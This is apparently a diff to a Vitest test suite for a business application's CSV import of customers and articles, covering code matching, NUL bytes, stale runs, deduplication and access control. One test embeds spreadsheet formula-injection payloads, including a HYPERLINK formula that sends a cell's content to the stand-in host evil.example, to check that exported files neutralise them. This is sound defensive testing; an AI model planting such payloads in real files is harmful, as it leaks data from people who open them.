@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { call, startTestApp, type TestApp } from '../../../test/harness.js';
 import { createCompany, randomPartitaIva } from '../../../test/factories.js';
-import { importCsv } from './test-helpers.js';
+import { importCsv, uploadMapping, waitForImport } from './test-helpers.js';
 
 let t: TestApp;
 beforeAll(async () => {
@@ -54,7 +54,7 @@ describe('customers import', () => {
       Buffer.from(
         [
           'codice;ragione_sociale;partita_iva;codice_fiscale;citta',
-          'C1;Primo aggiornato;;;',
+          'c 1;Primo aggiornato;;;',
           `;Secondo per IVA;${pivas[1]};RSSMRA80A01H501U;Bologna`,
           ';Secondo per codice fiscale;;RSSMRA80A01H501U;Modena',
           ';Nuovo cliente;;;Ravenna',
@@ -64,7 +64,8 @@ describe('customers import', () => {
     expect(second.final).toMatchObject({ status: 'completed', creati: 1, aggiornati: 3, scartati: 0 });
     const after = await rowsOf('clienti', c.company.id, 'codice, ragione_sociale, partita_iva, codice_fiscale, citta');
     expect(after).toHaveLength(3001);
-    expect(after.find((r: any) => r.codice === 'C1')).toMatchObject({
+    // Matched case and spaces aside; the file's spelling is kept.
+    expect(after.find((r: any) => r.codice === 'c 1')).toMatchObject({
       ragione_sociale: 'Primo aggiornato',
       partita_iva: pivas[0],
       citta: 'Forlì',
@@ -75,8 +76,9 @@ describe('customers import', () => {
       codice_fiscale: 'RSSMRA80A01H501U',
       citta: 'Modena',
     });
+    // A registry id matches case and spaces aside ('c 1' is C1); a new customer without one gets the next.
     expect(after.find((r: any) => r.ragione_sociale === 'Nuovo cliente')).toMatchObject({
-      codice: null,
+      codice: 'C000001',
       citta: 'Ravenna',
     });
   });
@@ -181,5 +183,152 @@ describe('articles import', () => {
       codice: 'NUOVO',
       descrizione: 'Per riferimento',
     });
+  });
+});
+
+describe('import files', () => {
+  it('writes formula-looking cells back neutralised, and only who may import reads them', async () => {
+    const c = await createCompany(t);
+    const admin = await c.login('admin');
+    const lines = [
+      'codice;ragione_sociale;partita_iva;citta',
+      'X1;"=HYPERLINK(""http://evil.example/?""&A1;""click"")";12345678901;+39 Forlì',
+      'X2;@SUM(1+1);12345678901;-2',
+    ];
+    const r = await importCsv(t, admin, 'clienti', Buffer.from(lines.join('\n')));
+    expect(r.final).toMatchObject({ status: 'completed', creati: 0, scartati: 2 });
+    const file = await call(t.app, 'GET', `/api/imports/import/${r.final.id}/scarti.csv`, admin);
+    expect(file.status).toBe(200);
+    const body = file.raw.body.replace(/^\uFEFF/, '');
+    const rows = body.trim().split(/\r?\n/);
+    expect(rows[0]).toBe('riga;motivi');
+    expect(rows[1]).toMatch(/^2;/);
+    expect(rows[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""click"")"`);
+    expect(rows[1]).toContain(";'+39 Forlì");
+    expect(rows[2]).toContain(";'@SUM(1+1);");
+    expect(rows[2]).toMatch(/;'-2$/);
+    // No cell of the file starts a formula.
+    for (const line of rows) for (const cell of line.split(';')) expect(cell).not.toMatch(/^[=+@-]/);
+
+    // A technician reads customers but may not import them: none of the import's files.
+    const tech = await c.login('tech');
+    expect((await call(t.app, 'GET', '/api/clienti/clienti', tech)).status).toBe(200);
+    for (const path of ['', '/scarti', '/scarti.csv']) {
+      const res = await call(t.app, 'GET', `/api/imports/import/${r.final.id}${path}`, tech);
+      expect(res.status, path).toBe(403);
+    }
+    const list = await call(t.app, 'GET', '/api/imports/imports', tech);
+    expect(list.status).toBe(200);
+    expect(list.json.items).toEqual([]);
+    const adminList = await call(t.app, 'GET', '/api/imports/imports', admin);
+    expect(adminList.json.items.map((i: any) => i.id)).toContain(r.final.id);
+  });
+});
+
+describe('NUL in a file', () => {
+  it('past the first 64 KB refuses that row with its reason and imports the others', async () => {
+    const c = await createCompany(t);
+    const s = await c.login('admin');
+    const lines = ['codice;ragione_sociale;citta;nota non importata'];
+    for (let i = 1; i <= 2000; i++) lines.push(`N${i};Cliente numero ${i} di prova con un nome lungo;Cesena;x`);
+    lines[1800] = 'N1800;Cliente\u0000 rotto;Cesena;x';
+    lines[1900] = 'N1900;Cliente con nota rotta;Cesena;a\u0000b';
+    const body = Buffer.from(lines.join('\n'));
+    expect(body.indexOf(0)).toBeGreaterThan(64 * 1024);
+    const r = await importCsv(t, s, 'clienti', body);
+    expect(r.final).toMatchObject({ status: 'completed', creati: 1999, scartati: 1 });
+    const rej = await call(t.app, 'GET', `/api/imports/import/${r.final.id}/scarti`, s);
+    expect(rej.json.items).toEqual([
+      {
+        riga: 1801,
+        errors: [expect.objectContaining({ field: 'ragione_sociale', code: 'nul' })],
+        values: ['N1800', 'Cliente\uFFFD rotto', 'Cesena', 'x'],
+      },
+    ]);
+  });
+});
+
+describe('a run whose process died', () => {
+  it('is ended as failed with its reason once its heartbeat is old, and no longer blocks a new import', async () => {
+    const c = await createCompany(t);
+    const s = await c.login('admin');
+    const upload = async () => {
+      const m = await uploadMapping(
+        t,
+        s,
+        { table: 'clienti', separator: ';', headerInFirstLine: 'true' },
+        { name: 'c.csv', content: Buffer.from('ragione_sociale;citta\nUno;Forlì\n') },
+      );
+      expect(m.status).toBe(200);
+      return m.json.item;
+    };
+    const killed = await upload();
+    const [row] = (await t.deps.database.executeSql('select storage_key from importazioni where id = $1', [killed.id]))
+      .rows as { storage_key: string }[];
+    // As a killed worker leaves it: running, its last heartbeat long ago.
+    const stale = t.deps.config.IMPORT_STALE_SEC + 5;
+    await t.deps.database.executeSql(
+      `update importazioni set stato = 'running', mapping = '[]', started_at = now() - make_interval(secs => $2),
+       heartbeat_at = now() - make_interval(secs => $2) where id = $1`,
+      [killed.id, stale],
+    );
+    // A live run (fresh heartbeat) blocks a second import: the control.
+    await t.deps.database.executeSql(`update importazioni set heartbeat_at = now() where id = $1`, [killed.id]);
+    const next = await upload();
+    const blocked = await call(t.app, 'POST', '/api/imports/import', {
+      ...s,
+      body: { id: next.id, mapping: next.mapping },
+    });
+    expect(blocked.status).toBe(409);
+    expect((await call(t.app, 'GET', `/api/imports/import/${killed.id}`, s)).json.item.status).toBe('running');
+
+    await t.deps.database.executeSql(
+      `update importazioni set heartbeat_at = now() - make_interval(secs => $2) where id = $1`,
+      [killed.id, stale],
+    );
+    const seen = await call(t.app, 'GET', `/api/imports/import/${killed.id}`, s);
+    expect(seen.json.item).toMatchObject({ status: 'failed', errore: expect.stringContaining('interrotta') });
+    expect(await t.deps.storage.size(row!.storage_key)).toBeNull();
+    const started = await call(t.app, 'POST', '/api/imports/import', {
+      ...s,
+      body: { id: next.id, mapping: next.mapping },
+    });
+    expect(started.status).toBe(200);
+    const done = await waitForImport(t, s, next.id);
+    expect(done.at(-1)).toMatchObject({ status: 'completed', creati: 1 });
+  });
+});
+
+describe('rows without registry id, VAT or tax code', () => {
+  it('are matched on name, address and city when the file is imported again, not made twice', async () => {
+    const c = await createCompany(t);
+    const s = await c.login('admin');
+    const file = (rows: string[]) => Buffer.from(['ragione_sociale;indirizzo;citta;telefono', ...rows].join('\n'));
+    const first = await importCsv(
+      t,
+      s,
+      'clienti',
+      file(['Bar Centrale;Via Roma 1;Forlì;1', 'Bar Centrale;Via Emilia 3;Cesena;2']),
+    );
+    expect(first.final).toMatchObject({ status: 'completed', creati: 2, aggiornati: 0 });
+    // Again, spelled differently (case, accents, spaces): the same two customers, updated.
+    const again = await importCsv(
+      t,
+      s,
+      'clienti',
+      file([
+        'BAR  centrale;via roma 1;FORLI;10',
+        'Bar Centrale;Via Emilia 3;Cesena;20',
+        'Bar Centrale;Via Emilia 3;Rimini;30',
+      ]),
+    );
+    expect(again.final).toMatchObject({ status: 'completed', creati: 1, aggiornati: 2, scartati: 0 });
+    const rows = await rowsOf('clienti', c.company.id, 'citta, telefono, codice');
+    expect(rows.map((r: any) => [r.citta, r.telefono]).sort()).toEqual([
+      ['Cesena', '20'],
+      ['FORLI', '10'], // the file's spelling wins, as for any update
+      ['Rimini', '30'],
+    ]);
+    expect(rows.map((r: any) => r.codice).sort()).toEqual(['C000001', 'C000002', 'C000003']);
   });
 });
